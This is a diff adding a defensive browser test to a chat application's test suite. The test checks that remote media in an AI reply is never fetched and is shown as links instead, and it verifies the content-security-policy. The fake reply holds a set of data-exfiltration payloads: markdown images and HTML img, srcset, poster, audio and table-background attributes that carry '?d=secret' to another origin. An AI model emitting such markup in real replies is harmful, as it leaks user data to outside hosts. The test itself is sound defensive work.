@@ -1,6 +1,9 @@
 """The chat in a real browser: streaming, tool cards, reload mid-reply, stop, draft, safety."""
 
+import http.server
 import json
+import threading
+from typing import ClassVar
 
 import pytest
 from playwright.sync_api import Dialog, Page, expect
@@ -310,3 +313,69 @@ def test_conversation_settings_are_edited_in_a_dialog(chat_page: Page, owner):
     assert conversation.model == "gpt-test-2"
     assert "current_time" not in conversation.tools
     assert "calculator" in conversation.tools
+
+
+class _Counter(http.server.BaseHTTPRequestHandler):
+    hits: ClassVar[list[str]] = []
+
+    def do_GET(self) -> None:
+        _Counter.hits.append(self.path)
+        self.send_response(200)
+        self.send_header("Content-Type", "image/gif")
+        self.end_headers()
+        self.wfile.write(b"GIF89a")
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+
+@pytest.fixture
+def elsewhere():
+    """Another origin on this machine that counts what is fetched from it."""
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Counter)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    _Counter.hits.clear()
+    yield f"http://127.0.0.1:{server.server_address[1]}"
+    server.shutdown()
+
+
+def test_remote_media_in_a_reply_is_never_fetched_but_offered_as_a_link(
+    chat_page: Page, stack: Stack, owner, elsewhere
+):
+    reply = f"""Look:
+
+![leak]({elsewhere}/md?d=secret)
+<img src="{elsewhere}/img?d=secret" alt="raw">
+<img src="/static/web/app.css" srcset="{elsewhere}/srcset?d=secret 2x">
+<picture><source srcset="{elsewhere}/picture?d=secret"><img src="/static/web/app.css"></picture>
+<video poster="{elsewhere}/poster?d=secret" src="{elsewhere}/video?d=secret"></video>
+<audio><source src="{elsewhere}/audio?d=secret"></audio>
+<table background="{elsewhere}/table?d=secret"><tr><td>cell</td></tr></table>
+
+**done**"""
+    requested: list[str] = []
+    chat_page.on("request", lambda request: requested.append(request.url))
+    stack.fake.push(Script(text=reply, tokens_per_second=400))
+    chat_page.goto("/chat/")
+    send(chat_page, "Show me pictures")
+    wait_idle(chat_page)
+    content = chat_page.locator("article.message.assistant .content").last
+    expect(content.locator("strong")).to_have_text("done")
+    chat_page.reload()  # drawn again from history: the same
+    expect(content.locator("strong")).to_have_text("done")
+    chat_page.wait_for_timeout(500)
+
+    assert _Counter.hits == []
+    assert not [url for url in requested if url.startswith(elsewhere)]
+    placeholders = content.locator(".remote-media")
+    expect(placeholders).to_have_count(6)
+    links = placeholders.locator("a").evaluate_all("(links) => links.map((a) => a.href)")
+    assert f"{elsewhere}/md?d=secret" in links
+    assert all(link.startswith(elsewhere) for link in links)
+    html = content.inner_html()
+    for attribute in ("src=", "srcset=", "poster=", "background="):
+        assert f'{attribute}"{elsewhere}' not in html
+    policy = chat_page.request.get(f"{stack.url}/chat/").headers["content-security-policy"]
+    assert "img-src 'self' data:;" in policy
+    assert "media-src 'self'" in policy
